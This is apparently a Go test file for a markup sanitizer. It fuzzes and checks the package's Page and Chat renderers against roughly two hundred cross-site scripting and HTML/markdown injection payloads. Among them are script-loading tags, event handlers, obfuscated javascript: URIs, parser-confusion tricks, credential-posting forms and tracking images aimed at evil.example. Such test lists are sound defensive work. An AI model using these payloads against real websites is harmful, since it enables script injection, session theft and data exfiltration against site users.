package markup

import (
	"strings"
	"testing"
)

// attacks are texts that run a script, load something or send something
// where HTML is not looked at well enough.
func attacks() []string {
	list := strings.Split(strings.TrimSpace(`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<script
<script>alert(1)
</script><script>alert(1)</script>
<<script>alert(1);//<</script>
<script\x20type="text/javascript">javascript:alert(1);</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//
<img/src=x/onerror=alert(1)>
<img """><script>alert(1)</script>">
<img src="x" ONERROR='alert(1)' >
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src="javascript:alert(1)">
<img src=JaVaScRiPt:alert(1)>
<img src="jav&#x09;ascript:alert(1)">
<img src="jav&#x0A;ascript:alert(1)">
<img src=" &#14;  javascript:alert(1);">
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">
<img srcset="x 1x, javascript:alert(1) 2x">
<img src=x srcset="https://evil.example/track.gif 2x" sizes=100vw>
<img src=x style="width:expression(alert(1))">
<img src=x lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>
<img src=x usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>
<img src=x longdesc=javascript:alert(1)>
<picture><source srcset="https://evil.example/x"><img src=x onerror=alert(1)></picture>
<a href="javascript:alert(1)">x</a>
<a href="JAVASCRIPT:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java\nscript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#x6A;avascript&#x3A;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://x/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="filesystem:https://x/y">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="//evil.example" target="_top" rel="opener">x</a>
<a href="https://x" ping="https://evil.example">x</a>
<a href="https://x" download>x</a>
<a onmouseover=alert(1)>x</a>
<a href=x onclick=alert(1) autofocus onfocus=alert(1) tabindex=1>x</a>
<a href="https://x" style="position:fixed;inset:0">x</a>
<a href="https://x/&quot; onmouseover=&quot;alert(1)">x</a>
<a href='https://x/" onmouseover="alert(1)'>x</a>
<a id=document name=body href=x>x</a>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script xlink:href=data:,alert(1) /></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img onerror=alert(1) src=x&gt;</listing>
<select><option><style></select><img src=x onerror=alert(1)></style>
<select><template><script>alert(1)</script></template></select>
<table><td background="javascript:alert(1)">
<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</table>
<table><caption><svg><title><table><td><img src=x onerror=alert(1)>
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url(javascript:alert(1))}</style>
<style><!--</style><script>alert(1)//--></script>
<div style="background:url(https://evil.example/track)">x</div>
<div style="behavior:url(x.htc)">x</div>
<div style=xss:expression(alert(1))>x</div>
<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=import href=data:text/html,x>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="Set-Cookie" content="a=b">
<base href="https://evil.example/">
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://evil.example" sandbox="allow-scripts"></iframe>
<frameset onload=alert(1)><frame src=x></frameset>
<object data=javascript:alert(1)></object>
<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<applet code=x.class></applet>
<portal src=javascript:alert(1)></portal>
<fencedframe src=x></fencedframe>
<form action=https://evil.example method=post><input name=password><button>Send</button></form>
<button formaction=javascript:alert(1)>x</button>
<input type=image src=x formaction=javascript:alert(1)>
<input autofocus onfocus=alert(1)>
<isindex action=javascript:alert(1) type=image>
<details open ontoggle=alert(1)>x</details>
<dialog open onclose=alert(1)>x</dialog>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<html manifest=x><head><script>alert(1)</script></head>
<bgsound src=javascript:alert(1)>
<keygen autofocus onfocus=alert(1)>
<video src=x onerror=alert(1)></video>
<video src="javascript:alert(1)"></video>
<video poster=javascript:alert(1)></video>
<video poster="data:image/svg+xml,<svg onload=alert(1)>"></video>
<video><source onerror=alert(1)></video>
<video><source src="data:video/mp4;base64,AAAA" type="video/mp4"></video>
<video src=mailto:x@example.org></video>
<video controls autoplay src=x><track src=https://evil.example/x.vtt default></video>
<audio src onloadstart=alert(1)>
<p onclick=alert(1) contenteditable onfocus=alert(1)>x</p>
<p class="admin-panel" id="player" name="x" data-state="live" slot=x is=x>x</p>
<x onclick=alert(1)>x</x>
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>
<!DOCTYPE html [<!ENTITY x "y">]><p>&x;</p>
<!ENTITY x SYSTEM "file:///etc/passwd">
<xss:img src=x onerror=alert(1)>
<a/href="javascript:alert(1)"/>x
<a href=javascript&#58;alert&#40;1&#41;>x</a>
<p title="</p><img src=x onerror=alert(1)>">x</p>
<img alt="&lt;script&gt;" src="x&quot;onerror=&quot;alert(1)">
<img src='x' alt='"><script>alert(1)</script>'>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<java script:alert(1)>)
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](//evil.example)
[x](\\evil.example)
[x](https://x"onmouseover="alert(1))
[x](https://x 'a" onmouseover="alert(1)')
[x](https://x "a' onmouseover='alert(1)")
![x](javascript:alert(1))
![x](https://evil.example/track.gif)
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x"onerror="alert(1)](x)
![x](x"onerror="alert(1))
![x](//evil.example/img/emoji/x.png)
![x](https://evil.example/img/emoji/x.png)
![x](/img/emoji/../../api/admin/status#.png)
[a]: javascript:alert(1) "x"
<javascript:alert(1)>
<data:text/html,x>
<https://x/"onmouseover="alert(1)>
<https://x/'onmouseover='alert(1)>
https://x.example/"onmouseover="alert(1)
https://x.example/'><script>alert(1)</script>
www.x.example"onmouseover="alert(1)
javascript:alert(1)//https://x.example
|a|\n|-|\n|<script>alert(1)</script>|
~~<img src=x onerror=alert(1)>~~
:<script>alert(1)</script>:
:ok" onerror="alert(1):
:evil:
:ok::evil::ok:
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;script&amp;gt;
`), "\n")
	for i := range list {
		list[i] = strings.NewReplacer(`\n`, "\n", `\x20`, " ").Replace(list[i])
	}
	return append(list,
		"<scr\x00ipt>alert(1)</scr\x00ipt>", "<img src=x on\x00error=alert(1)>", "<a href=\"java\x00script:alert(1)\">x</a>",
		"<a href=\"\x01\x02javascript:alert(1)\">x</a>", "<a href=\"\u00a0javascript:alert(1)\">x</a>", "<a href=\"\u2028javascript:alert(1)\">x</a>",
		"```html\"onload=\"alert(1)\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
		"<img src=x\nonerror=alert(1)>", "<img\tsrc=x\fonerror=alert(1)>", "<img src=x\r\nonerror=alert(1)>",
		"\xff<script>alert(1)</script>", "<\xc0\xbcscript>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
		"[x]\n\n[x]: javascript:alert(1)", "[x][y]\n\n[y]: <javascript:alert(1)> 'a'", "<div\n\n<script>alert(1)</script>\n\n>",
		strings.Repeat("<div>", 600)+"<svg><style><img src=x onerror=alert(1)>", strings.Repeat("<b>", 2000)+"<script>alert(1)</script>",
	)
}

// evilEmoji answers with what a store would never have.
func evilEmoji(name string) (string, bool) {
	switch name {
	case "ok":
		return "/live/img/emoji/ok.png", true
	case "evil":
		return `javascript:alert(1)"/img/emoji/ok.png`, true
	}
	return "", false
}

func TestNoAttackGetsThrough(t *testing.T) {
	r := New()
	list := attacks()
	if len(list) < 150 {
		t.Fatalf("there are only %d", len(list))
	}
	for _, in := range list {
		if out := r.Page(in); check(out, false) != nil {
			t.Errorf("Page(%.200q) has %v: %.200s", in, check(out, false), out)
		}
		if out := r.Chat(in, evilEmoji); check(out, true) != nil {
			t.Errorf("Chat(%.200q) has %v: %.200s", in, check(out, true), out)
		}
	}
}

// The checker is only worth something if it finds the attacks themselves.
func TestTheCheckFindsAttacks(t *testing.T) {
	missed := 0
	for _, in := range attacks() {
		if !strings.HasPrefix(in, "<") {
			continue
		}
		if check(in, true) == nil {
			t.Logf("nothing wrong with %q", in)
			missed++
		}
	}
	if missed > 20 {
		t.Errorf("it found nothing wrong with %d", missed)
	}
}

func FuzzPage(f *testing.F) {
	for _, in := range attacks() {
		f.Add(in)
	}
	r := New()
	f.Fuzz(func(t *testing.T, in string) {
		out := r.Page(in)
		if err := check(out, false); err != nil {
			t.Fatalf("%v in %.300s", err, out)
		}
		if len(out) > 100*min(len(in), MaxPage)+maxCells*20 {
			t.Fatalf("%d bytes made %d", len(in), len(out))
		}
	})
}

func FuzzChat(f *testing.F) {
	for _, in := range attacks() {
		f.Add(in)
	}
	r := New()
	f.Fuzz(func(t *testing.T, in string) {
		if out := r.Chat(in, evilEmoji); check(out, true) != nil {
			t.Fatalf("%v in %.300s", check(out, true), out)
		}
		if out := r.Plain(in); strings.ContainsAny(out, "\n\t") {
			t.Fatalf("Plain made more than a line: %q", out)
		}
	})
}
